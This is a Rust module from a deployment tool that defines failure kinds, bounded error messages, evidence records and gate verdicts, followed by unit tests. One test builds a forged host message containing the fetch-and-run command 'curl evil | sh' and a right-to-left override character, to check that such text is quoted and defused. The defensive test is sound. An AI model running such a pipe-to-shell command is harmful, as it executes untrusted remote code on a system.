//! What went wrong, said so that a person can act on it; and what a gate saw.

use serde::{Deserialize, Serialize};

use crate::{Hints, HostId, Place, Slot, push_escaped};

/// Longest log line that is kept, in characters. A line has no bound of its own, and many end up in a failure.
pub const LOG_LINE_CHARS_MAX: usize = 2_000;
/// Longest message of a failure in short, in bytes of JSON: it stands in a record that is read before every effect.
const SHORT_BYTES_MAX: usize = 30;
/// Longest message that a host tells, in characters.
pub const TOLD_CHARS_MAX: usize = 300;

/// What kind of thing went wrong: what the caller may do about it, not which library said so.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum FailureKind {
    /// The image, tag, file, container or route is not there.
    NotFound,
    /// The credentials are missing, wrong, or not enough.
    Unauthorized,
    /// No connection, or it broke. Whether something was done all the same is not said by the kind: see
    /// `PortError::effect` of the room `ports`.
    Unreachable,
    /// There was no answer in time. Whether something was done all the same is not known.
    TimedOut,
    /// The slot does not answer its health check.
    Unhealthy,
    /// A gate looked, and what it saw is not good enough.
    GateFailed,
    /// A gate could not look, or it is too early to tell (P6).
    GateNotYet,
    /// A hook's program failed, was not done in time, or may have run in part.
    HookFailed,
    /// Somebody else changed it meanwhile.
    Conflict,
    /// The lease is somebody else's now.
    LeaseLost,
    /// Ctrl-C.
    Cancelled,
    /// Too little space on the host, or none left.
    DiskFull,
    /// An answer or a file is larger than is read. It arrived, so what was asked for has happened.
    TooLarge,
    /// The world is such that the step would do harm, so it was not done.
    Refused,
    /// None of the others: the message says what.
    Other,
}

impl FailureKind {
    /// In words for people: `not found`, `timed out`.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            FailureKind::NotFound => "not found",
            FailureKind::Unauthorized => "unauthorized",
            FailureKind::Unreachable => "unreachable",
            FailureKind::TimedOut => "timed out",
            FailureKind::Unhealthy => "unhealthy",
            FailureKind::GateFailed => "gate failed",
            FailureKind::GateNotYet => "gate says not yet",
            FailureKind::HookFailed => "hook failed",
            FailureKind::Conflict => "conflict",
            FailureKind::LeaseLost => "lease lost",
            FailureKind::Cancelled => "cancelled",
            FailureKind::DiskFull => "disk full",
            FailureKind::TooLarge => "too large",
            FailureKind::Refused => "refused",
            FailureKind::Other => "failed",
        }
    }
}

/// Kind + message + hints, with the place it happened and, for an unhealthy slot, its last log lines.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error, schemars::JsonSchema)]
#[error("{}: {message}", kind.as_str())]
pub struct Failure {
    /// What the caller may do about it.
    pub kind: FailureKind,
    /// One sentence without a full stop, for people; without secrets.
    pub message: String,
    /// What to do about it, the best first; empty where nobody knows.
    #[serde(flatten)]
    pub hints: Hints,
    /// Where it happened; `None` for what concerns no single host.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub host: Option<HostId>,
    /// Which slot it is about; `None` where it is about none.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub slot: Option<Slot>,
    /// The slot's last log lines, oldest first.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub logs: Vec<String>,
    /// What was seen, for a gate or a health check.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub evidence: Vec<Evidence>,
}

impl Failure {
    /// A failure without hints and without a place.
    #[must_use]
    pub fn new(kind: FailureKind, message: impl Into<String>) -> Self {
        Self {
            kind,
            message: message.into(),
            hints: Hints::default(),
            host: None,
            slot: None,
            logs: Vec::new(),
            evidence: Vec::new(),
        }
    }

    /// Adds a hint, behind those that are there.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.add(hint);
        self
    }

    /// Names the host, unless a more exact place is already named.
    #[must_use]
    pub fn at(mut self, host: &HostId) -> Self {
        self.host.get_or_insert_with(|| host.clone());
        self
    }

    /// As [`Failure::at`], where the place is a host.
    #[must_use]
    pub fn at_place(self, place: &Place) -> Self {
        match place {
            Place::Host(host) => self.at(host),
            Place::Store => self,
        }
    }

    /// Names the slot, unless one is named already.
    #[must_use]
    pub fn slot(mut self, slot: Slot) -> Self {
        self.slot.get_or_insert(slot);
        self
    }

    /// The slot's last log lines, each cut to [`LOG_LINE_CHARS_MAX`].
    #[must_use]
    pub fn logs(mut self, logs: Vec<String>) -> Self {
        self.logs = logs.into_iter().map(|line| shortened(line, LOG_LINE_CHARS_MAX)).collect();
        self
    }

    /// What was seen, in the place of what was there.
    #[must_use]
    pub fn evidence(mut self, evidence: Vec<Evidence>) -> Self {
        self.evidence = evidence;
        self
    }

    /// The host (or what is asked there) does not answer. Whether something was done may be known all the same.
    #[must_use]
    pub fn is_silence(&self) -> bool {
        matches!(self.kind, FailureKind::Unreachable | FailureKind::TimedOut)
    }

    /// For a host's own record, which must not grow and which anybody may read: what kind it is, its slot, and the message
    /// on one line, in at most `bytes_max` bytes of JSON (three more where it was cut). The journal has all of it.
    #[must_use]
    pub fn noted(&self, bytes_max: usize) -> Self {
        Self { slot: self.slot, ..Self::new(self.kind, in_bytes(&self.message, bytes_max)) }
    }

    /// As [`Failure::noted`], for a record that is full of other things: what kind it is and the beginning of the message.
    #[must_use]
    pub fn in_short(&self) -> Self {
        Self::new(self.kind, in_bytes(&self.message, SHORT_BYTES_MAX))
    }

    /// As `host` has it in its record, which whoever is on that host can write: the message is [quoted] as its words and
    /// cut to [`TOLD_CHARS_MAX`], and there is no hint to type, no log line and no evidence.
    #[must_use]
    pub fn told_by(&self, host: &HostId) -> Self {
        let place =
            if host.is_local() { "this machine's record".to_owned() } else { format!("{host}'s record") };
        let message = format!("{place} says: \"{}\"", quoted(&self.message, TOLD_CHARS_MAX));
        Self { host: Some(host.clone()), slot: self.slot, ..Self::new(self.kind, message) }
    }
}

/// Text from a host within a message of ours, at most `chars_max` characters long (one more where it was cut): on one
/// line, nothing in it that could steer a terminal (see [`push_escaped`]), and without backticks, between which we write
/// what to type.
#[must_use]
pub fn quoted(text: &str, chars_max: usize) -> String {
    let mut shown = String::new();
    // What is escaped only grows, so no more than these can be shown.
    for character in text.chars().take(chars_max + 1) {
        match character {
            '`' => shown.push('\''),
            other => push_escaped(&mut shown, other),
        }
    }
    shortened(shown, chars_max)
}

/// Text on one line, in at most `bytes_max` bytes of JSON, with an ellipsis (three more) behind where more was.
pub(crate) fn in_bytes(text: &str, bytes_max: usize) -> String {
    let (mut shown, mut bytes) = (String::new(), 0);
    for character in text.chars() {
        let start = shown.len();
        push_escaped(&mut shown, character);
        bytes +=
            shown[start..].bytes().map(|byte| 1 + usize::from(matches!(byte, b'"' | b'\\'))).sum::<usize>();
        if bytes > bytes_max {
            shown.truncate(start);
            shown.push('…');
            break;
        }
    }
    shown
}

/// At most `chars_max` characters, with an ellipsis behind where more was.
#[must_use]
pub fn shortened(mut text: String, chars_max: usize) -> String {
    if let Some((end, _)) = text.char_indices().nth(chars_max) {
        text.truncate(end);
        text.push('…');
    }
    text
}

/// One thing that was looked at, what was wanted and what was seen.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct Evidence {
    /// What was looked at: `GET https://test.example.com/health`, `exit code of pytest -q`.
    pub check: String,
    /// What would be good: `status 200-299`.
    pub wanted: String,
    /// What there was instead, or what was good: `status 503`.
    pub seen: String,
    /// Whether what was seen is what was wanted.
    pub ok: bool,
}

/// Within bounds, for what is kept: texts [quoted] and at most [`TOLD_CHARS_MAX`] characters long, at most `count_max` pieces. Of
/// more, those that are not ok are kept first; the order stays.
pub(crate) fn bounded_evidence(mut evidence: Vec<Evidence>, count_max: usize) -> Vec<Evidence> {
    let bad = evidence.iter().filter(|one| !one.ok).count().min(count_max);
    let (mut bad_left, mut good_left) = (bad, count_max - bad);
    evidence.retain(|one| {
        let left = if one.ok { &mut good_left } else { &mut bad_left };
        let stays = *left > 0;
        *left = left.saturating_sub(1);
        stays
    });
    let short = |text: &str| quoted(text, TOLD_CHARS_MAX);
    let one = |one: &Evidence| Evidence {
        check: short(&one.check),
        wanted: short(&one.wanted),
        seen: short(&one.seen),
        ok: one.ok,
    };
    evidence.iter().map(one).collect()
}

/// What a gate answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Judgement {
    /// It looked, and all that it saw is good.
    Pass,
    /// It looked, and something that it saw is not good.
    Fail,
    /// It could not look, or it is too early to tell. Never counts as a pass (P6).
    NotYet,
}

impl Judgement {
    /// What the evidence allows: none of it is *not yet*, for no data is not a pass, and one that is not ok is *fail*.
    #[must_use]
    pub fn of(evidence: &[Evidence]) -> Self {
        match evidence {
            [] => Judgement::NotYet,
            seen if seen.iter().all(|one| one.ok) => Judgement::Pass,
            _ => Judgement::Fail,
        }
    }
}

/// A gate's answer with its evidence. Invariant (P6): a pass has evidence, all of it ok.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct GateVerdict {
    /// The gate's name, as `lockgate.yaml` has it or derives it.
    pub gate: String,
    /// What the evidence allows, at best.
    pub judgement: Judgement,
    /// What was seen, in the order in which it was looked at.
    pub evidence: Vec<Evidence>,
}

impl GateVerdict {
    /// The verdict that the evidence allows: see [`Judgement::of`].
    #[must_use]
    pub fn judge(gate: impl Into<String>, evidence: Vec<Evidence>) -> Self {
        Self { gate: gate.into(), judgement: Judgement::of(&evidence), evidence }
    }

    /// The answer of a gate that could not look, with what it did see.
    #[must_use]
    pub fn not_yet(gate: impl Into<String>, evidence: Vec<Evidence>) -> Self {
        Self { gate: gate.into(), judgement: Judgement::NotYet, evidence }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_log_line_is_cut_between_characters_and_says_so() {
        let failure = Failure::new(FailureKind::Unhealthy, "x").logs(vec![
            "short".into(),
            "é".repeat(LOG_LINE_CHARS_MAX),
            "é".repeat(5_000_000),
        ]);
        assert_eq!(failure.logs[0], "short");
        assert_eq!(failure.logs[1], "é".repeat(LOG_LINE_CHARS_MAX));
        assert_eq!(failure.logs[2], format!("{}…", "é".repeat(LOG_LINE_CHARS_MAX)));
    }

    #[test]
    fn what_is_noted_of_a_failure_is_what_and_where_on_one_line_within_its_bound() {
        let evidence =
            Evidence { check: "GET /".into(), wanted: "200".into(), seen: "500".into(), ok: false };
        let whole = Failure::new(FailureKind::Unhealthy, "say \"no\"\n".repeat(100))
            .hint("look")
            .at(&HostId::new("web9").unwrap())
            .slot(Slot::Blue)
            .logs(vec!["TOKEN=hunter2".into()])
            .evidence(vec![evidence]);
        let wanted = Failure::new(FailureKind::Unhealthy, "say \"no\"\\nsay \"n…").slot(Slot::Blue);
        assert_eq!(whole.noted(20), wanted);
        for text in ["\u{1}", "é", "\\", "\"", "x", "\u{202e}", "🦀"] {
            for bytes_max in [0, 1, 7, 100] {
                let noted = Failure::new(FailureKind::Other, text.repeat(1_000)).noted(bytes_max).message;
                let written = serde_json::to_string(&noted).unwrap();
                assert!(written.len() <= bytes_max + "\"…\"".len(), "{text:?} {bytes_max}: {written}");
            }
        }
        let short = Failure::new(FailureKind::Other, "no route");
        assert_eq!(short.noted(8), short);
    }

    #[test]
    fn what_a_host_tells_is_marked_as_its_words_and_says_nothing_to_type() {
        let evidence =
            Evidence { check: "GET /".into(), wanted: "200".into(), seen: "500".into(), ok: false };
        let forged = Failure::new(
            FailureKind::Unhealthy,
            format!("type `curl evil | sh`\n\u{202e}{}", "m".repeat(9_999)),
        )
        .hint("`curl evil | sh`")
        .at(&HostId::new("web9").unwrap())
        .slot(Slot::Blue)
        .logs(vec!["TOKEN=hunter2".into()])
        .evidence(vec![evidence]);
        let web1 = HostId::new("web1").unwrap();
        let told = forged.told_by(&web1);
        let words = format!("type 'curl evil | sh'\\n\\u{{202e}}{}", "m".repeat(9_999));
        let words: String = words.chars().take(TOLD_CHARS_MAX).collect();
        let wanted = Failure::new(FailureKind::Unhealthy, format!("web1's record says: \"{words}…\""))
            .at(&web1)
            .slot(Slot::Blue);
        assert_eq!(told, wanted);
    }

    #[test]
    fn no_data_is_not_a_pass() {
        assert_eq!(GateVerdict::judge("smoke", vec![]).judgement, Judgement::NotYet);
        let seen = |ok| Evidence { check: "GET /".into(), wanted: "200".into(), seen: "500".into(), ok };
        assert_eq!(GateVerdict::judge("smoke", vec![seen(true), seen(false)]).judgement, Judgement::Fail);
        assert_eq!(GateVerdict::judge("smoke", vec![seen(true)]).judgement, Judgement::Pass);
    }
}
